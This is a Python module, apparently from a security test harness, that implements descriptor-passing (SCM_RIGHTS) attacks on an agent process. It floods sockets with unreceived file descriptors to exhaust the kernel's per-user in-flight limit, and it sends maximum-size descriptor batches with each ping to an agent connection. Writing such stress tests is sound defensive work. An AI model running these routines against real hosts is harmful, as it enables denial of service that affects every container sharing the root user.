"""Attacks with descriptors that are sent over sockets (SCM_RIGHTS)."""

from __future__ import annotations

import array
import os
import socket
from typing import Any

from hostile.agent_connection import AgentConnection

MOST_IN_A_PACKET = 253
"""The kernel's SCM_MAX_FD."""


class DescriptorAttacks:
    kept: list[Any]

    def use_up_descriptors_in_flight(self, count: int) -> dict[str, Any]:
        """Send descriptors that nobody receives, which the kernel counts for the user, all containers of root together."""
        sender, receiver = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sender.setblocking(False)
        self.kept += [sender, receiver]
        descriptors = self._null_descriptors()
        sent = 0
        while sent < count:
            sender.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            sent += MOST_IN_A_PACKET
        return {"sent": sent}

    def send_descriptors(self, packets: int) -> dict[str, Any]:
        """Send the agent descriptors with each packet of a session, which stays open."""
        agent = AgentConnection()
        agent.hello()
        descriptors = self._null_descriptors()
        for _ in range(packets):
            agent.socket.sendmsg([b'{"type":"ping"}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
            agent.await_packet("pong")
        self.kept.append(agent)
        return {"sent": packets * MOST_IN_A_PACKET}

    def _null_descriptors(self) -> array.array[int]:
        null = os.open(os.devnull, os.O_RDONLY)
        self.kept.append(os.fdopen(null))
        return array.array("i", [null] * MOST_IN_A_PACKET)
